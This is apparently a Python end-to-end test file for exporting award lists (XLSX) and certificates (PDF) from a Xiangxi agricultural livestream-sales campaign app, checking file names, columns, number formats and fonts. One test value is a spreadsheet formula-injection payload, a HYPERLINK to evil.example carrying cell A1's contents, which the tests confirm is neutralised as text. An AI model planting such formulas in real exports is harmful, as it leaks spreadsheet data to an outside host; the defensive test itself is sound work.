"""Exports a leader is handed, downloaded from the running app's API and console: the campaign's
name in titles and file names, numbers as numbers, county and enterprise columns from the registry,
a host named like a formula stored as text, and certificates for a 40-character campaign and a
20-character enterprise checked from the PDF itself.

The lists are stored as the campaign selection stores them (configstore.awards.save_computed with
the lines and params of services.awards.compute_selection), so these tests are about the exports."""
from __future__ import annotations

import io
from datetime import date
from urllib.parse import quote, unquote

import pytest
from openpyxl import load_workbook

from configstore import awards as award_store
from configstore import registry
from configstore.participants_import import import_participants
from tests.unit.pdf_checks import glyphless_characters, page_facts, pdffonts

pytestmark = pytest.mark.e2e

CAMPAIGN = "千村千红·湘西香伴——湘西州农产品直播带货暨乡村振兴电商消费帮扶行动季（第二届）"
ENTERPRISE = "湘西自治州龙山县百合农业科技开发有限公司"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
SLUG = "qcqh-xxxb-2026"


def _disposition(response) -> tuple[str, str]:
    """(ASCII fallback, UTF-8 name) from an RFC 6266 Content-Disposition header."""
    header = response.headers["Content-Disposition"]
    assert header.startswith('attachment; filename="')
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    encoded = header.split("; filename*=UTF-8''", 1)[1]
    assert encoded.isascii() and encoded == quote(unquote(encoded), safe="")
    return fallback, unquote(encoded)


def _setup(org):
    stack = org.stack
    assert (len(CAMPAIGN), len(ENTERPRISE)) == (40, 20)
    registry.upsert_campaign(stack.sessions, slug=SLUG, name=CAMPAIGN, first_day=date(2026, 11, 1),
                             last_day=date(2026, 11, 30))
    rows = [{"kind": "enterprise", "id": "E1", "name": ENTERPRISE, "county": "433130"},
            {"kind": "enterprise", "id": "E2", "name": "古丈茶业", "county": "433126"},
            {"kind": "host", "id": "H1", "name": "苗家阿妹", "county": "433123", "accounts": "douyin:dy1",
             "enterprises": "E1;E2"},
            {"kind": "host", "id": "H2", "name": EVIL, "county": "433101", "accounts": "douyin:dy2"}]
    assert import_participants(stack.sessions, rows).bad_rows == 0


def _store_selection(org, kind: str, label: str, winners: list[tuple[str, str, int]]) -> dict:
    lines = [{"participant_id": pid, "name": name, "category": label, "amount_fen": 0, "metric_fen": net,
              "detail": {"place": place, "board_rank": place, "order_count": 1}}
             for place, (pid, name, net) in enumerate(winners, start=1)]
    params = {"min_net_gmv_fen": 0, "min_order_count": 0, "campaign_name": "旧活动名称", "first_day": "2026-11-01",
              "last_day": "2026-11-30", "ineligible": []}
    return award_store.save_computed(org.stack.sessions, kind=kind, scope="campaign", scope_key=SLUG, items=lines,
                                     params=params)


def test_campaign_list_and_certificates_from_api_and_console(org, tmp_path):
    _setup(org)
    hosts = _store_selection(org, "top_influencers", "十大电商达人",
                             [("H1", "苗家阿妹", 57_095_400), ("H2", EVIL, 1_234_500)])
    enterprises = _store_selection(org, "top_enterprises", "十佳电商企业",
                                   [("E1", ENTERPRISE, 57_095_400), ("E2", "古丈茶业", 1_234_500)])
    console = org.console("viewer-user")

    for response in (org.api("GET", f"/awards/{hosts['id']}/export.xlsx", role="viewer"),
                     console.get(f"{org.base_url}/console/awards/{hosts['id']}/export.xlsx", timeout=30)):
        assert response.status_code == 200
        assert _disposition(response) == (f"award-list-{hosts['id']}-v1.xlsx",
                                          f"{CAMPAIGN}-十大电商达人名单-第1版-草稿.xlsx")
        wb = load_workbook(io.BytesIO(response.content))
        ws = wb["获奖名单"]
        assert ws["A1"].value == f"“{CAMPAIGN}”十大电商达人名单（第 1 版）" and SLUG not in ws["A1"].value
        assert ws["A2"].value.startswith("名单状态：草稿")
        assert [c.value for c in ws[3]][4:8] == ["县市", "所属企业", "奖励金额（元）", "净成交额（万元）"]
        first, second = ws[4], ws[5]
        assert [c.value for c in first[:6]] == [1, "H1", "苗家阿妹", "十大电商达人", "凤凰县",
                                                f"{ENTERPRISE}、古丈茶业"]
        assert first[7].data_type == "n" and first[7].value == pytest.approx(57.0954)
        assert first[7].number_format == "#,##0.00"
        assert second[2].data_type == "s" and second[2].value == "'" + EVIL and second[4].value == "吉首市"
        assert all(c.data_type in ("n", "s") for row in ws.iter_rows() for c in row if c.value is not None)
        assert ws.freeze_panes == "A4" and ws.print_title_rows == "$3:$3"
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.orientation == "landscape"

    listing = load_workbook(io.BytesIO(org.api("GET", f"/awards/{enterprises['id']}/export.xlsx").content)).active
    assert [c.value for c in listing[4]][2:5] == [ENTERPRISE, "十佳电商企业", "龙山县"]

    for response in (org.api("GET", f"/awards/{enterprises['id']}/certificates/E1.pdf", role="viewer"),
                     console.get(f"{org.base_url}/console/awards/{enterprises['id']}/certificates/E1.pdf",
                                 timeout=30)):
        assert response.status_code == 200 and response.headers["Content-Type"] == "application/pdf"
        assert _disposition(response) == (f"certificate-{enterprises['id']}-E1.pdf",
                                          f"十佳电商企业荣誉证书-{ENTERPRISE}-E1（样稿）.pdf")
        facts = page_facts(response.content)
        assert facts.chars_outside_frame() == []
        assert f"在“{CAMPAIGN}”活动中荣获“十佳电商企业”称号。" in facts.text and f"{ENTERPRISE}：" in facts.text
        assert "样稿" in facts.text and "湘西土家族苗族自治州商务局" in facts.text
        assert all(f["emb"] == "yes" for f in pdffonts(response.content))
        assert glyphless_characters(response.content) == {}

    host_pdf = org.api("GET", f"/awards/{hosts['id']}/certificates/H2.pdf", role="viewer")
    assert host_pdf.status_code == 200 and EVIL + "：" in page_facts(host_pdf.content).text


def test_a_certificate_that_cannot_be_printed_is_refused_with_the_reason(org):
    _setup(org)
    hosts = _store_selection(org, "top_influencers", "十大电商达人", [("H1", "苗家阿妹", 57_095_400)])
    adjusted = org.api("POST", f"/awards/{hosts['id']}/adjustments",
                       json={"participant_id": "H1", "name": "苗家𠅤妹", "reason": "更正姓名"})
    assert adjusted.status_code == 201, adjusted.text
    refused = org.api("GET", f"/awards/{hosts['id']}/certificates/H1.pdf", role="viewer")
    assert refused.status_code == 409
    assert refused.json()["error"]["code"] == "certificate_unavailable"
    assert "U+20164" in refused.json()["error"]["message"]
    page = org.console("viewer-user").get(f"{org.base_url}/console/awards/{hosts['id']}/certificates/H1.pdf",
                                          timeout=30)
    assert page.status_code == 409 and "无法生成证书" in page.text and "U+20164" in page.text
